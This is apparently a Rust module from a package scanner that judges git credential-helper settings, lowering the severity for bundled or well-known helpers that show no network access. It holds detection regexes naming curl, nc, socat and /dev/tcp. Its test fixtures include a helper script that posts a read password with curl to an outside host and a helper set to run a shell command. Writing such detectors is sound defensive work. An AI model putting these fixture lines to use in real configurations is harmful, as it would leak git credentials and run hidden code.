//! Programs that git asks for passwords: one that the package brings along and the page names is set up openly.

use std::sync::LazyLock;

use regex::Regex;

use super::deeds::nets::GIT_ELSEWHERE;
use crate::bundle::{Bundle, FILE_BYTES};
use crate::finding::{Finding, Severity};

/// 300 bytes around the setting of git: a step with its block.
const REACH: usize = 300;

/// The setting, and the name of a helper that it is set to.
static HELPER: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)\bcredential(?:\.[^\s"'`=]+)?\.helper["'`]*[\s=:]+["'`]?([a-z][a-z0-9-]*)\b"#).ok()
});

/// A mention of the setting, whatever it is set to.
static MENTION: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)\.helper\b|\bhelper[\x22'`]*\s*=").ok());

/// Every other setting of git that takes hooks, addresses or passwords from elsewhere.
static OTHERS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:core\.hookspath|(?:push)?insteadof|pushurl|http\.proxy|init\.templatedir|sslverify)\b").ok()
});

/// How code reaches a network.
static NETWORK: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = r"(?i)\b(?:curl|wget|ncat|nc|socat|ssh|scp|dig|nslookup|fetch|urllib\w*|requests|httpx|https?\W{1,3}\)|import https?|node:https?|net/http|sockets?|axios|invoke-\w+|openssl|telnet|ftp|mail|eval|exec|base64|xxd)\b|/dev/(?:tcp|udp)";
    Regex::new(pattern).ok()
});

/// A finding about git's settings, as what it is: a helper that the package brings along and that reaches no network is a warning.
pub(super) fn weigh(bundle: &Bundle, text: &str, finding: Finding) -> Finding {
    if finding.message != GIT_ELSEWHERE || finding.severity < Severity::Danger || !is_own(bundle, text, &finding) {
        return finding;
    }
    finding.severity(Severity::Warning)
}

fn is_own(bundle: &Bundle, text: &str, finding: &Finding) -> bool {
    let (Some(helper), Some(others), Some((start, end))) = (HELPER.as_ref(), OTHERS.as_ref(), finding.place.span)
    else {
        return false;
    };
    let at = |byte: u32| usize::try_from(byte).unwrap_or(usize::MAX).min(text.len());
    let from = text.floor_char_boundary(at(start).saturating_sub(REACH));
    let to = text.floor_char_boundary(at(end).saturating_add(REACH));
    let around = text.get(from..to).unwrap_or_default();
    let mut names = helper.captures_iter(around).filter_map(|found| found.get(1)).map(|name| name.as_str()).peekable();
    // Every mention of the setting has such a name, and each is the package's own or one that everybody has.
    let count = |pattern: &Regex| pattern.find_iter(around).count();
    let is_other = others.is_match(around) || MENTION.as_ref().is_none_or(|mention| count(mention) > count(helper));
    let is_spoken_of = |name: &str| {
        WORDS.contains(&name) && KNOWN.iter().any(|known| around.contains(&format!("git-credential-{known}")))
    };
    names.peek().is_some()
        && !is_other
        && names.all(|name| KNOWN.contains(&name) || is_spoken_of(name) || is_quiet(bundle, name))
}

/// Helpers that systems and git itself bring along.
const KNOWN: &[&str] = &["manager", "manager-core", "libsecret", "osxkeychain", "wincred", "cache", "oauth"];

/// Words behind the setting where it is only spoken of.
const WORDS: &[&str] = &["in", "to", "is", "for", "as", "of", "on", "and", "so", "with"];

/// Whether the package has the helper of that name, and its code reaches no network.
fn is_quiet(bundle: &Bundle, name: &str) -> bool {
    let wanted = format!("git-credential-{name}");
    let is_it = |path: &str| {
        let file = path.rsplit('/').next().unwrap_or(path);
        file == wanted || file.strip_prefix(&wanted).is_some_and(|end| end.starts_with('.'))
    };
    let mut found = bundle.files().iter().filter(|file| is_it(&file.path)).peekable();
    found.peek().is_some()
        && found.all(|file| {
            let text = bundle.read(file, FILE_BYTES).map(|bytes| crate::text::read(&bytes).into_owned());
            text.is_ok_and(|text| NETWORK.as_ref().is_some_and(|network| !network.is_match(&uncommented(&text))))
        })
}

/// Code without its lines of comments.
fn uncommented(code: &str) -> String {
    code.lines().filter(|line| !line.trim_start().starts_with('#')).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use crate::Severity;
    use crate::fixture::{report, worst};

    const PAGE: &str = "# Logins\n\n```sh\ninstall bin/git-credential-keep ~/.local/bin/\ngit config --global credential.helper keep\n```\n";

    fn severity(page: &str, helper: &str) -> Option<Severity> {
        worst(&report(&[("README.md", page), ("bin/git-credential-keep", helper)])).map(|(severity, _)| severity)
    }

    #[test]
    fn a_helper_that_the_package_brings_along_is_set_up_openly() {
        let quiet = "#!/bin/sh\n# asks no https\npass show \"git/$1\" | head -n 1\n";
        assert_eq!(severity(PAGE, quiet), Some(Severity::Warning));
        assert_eq!(severity(&PAGE.replace("helper keep", "helper other"), quiet), Some(Severity::Danger));
        let known = "`git-credential-manager configure` sets `credential.helper` in `~/.gitconfig` for all projects.\n";
        assert_ne!(severity(known, quiet), Some(Severity::Danger));
        let hidden = format!("{PAGE}\n`git config --global credential.HELPER '!sh ~/x'`\n");
        assert_eq!(severity(&hidden, quiet), Some(Severity::Danger));
        let more = format!("{PAGE}\nAlso `git config --global core.hooksPath ~/.keep/hooks`.\n");
        assert_eq!(severity(&more, quiet), Some(Severity::Danger));
        let loud = "#!/bin/sh\nread -r p\ncurl -s -d \"$p\" https://t.sample-house.net/p\n";
        assert_eq!(severity(PAGE, loud), Some(Severity::Danger));
    }
}
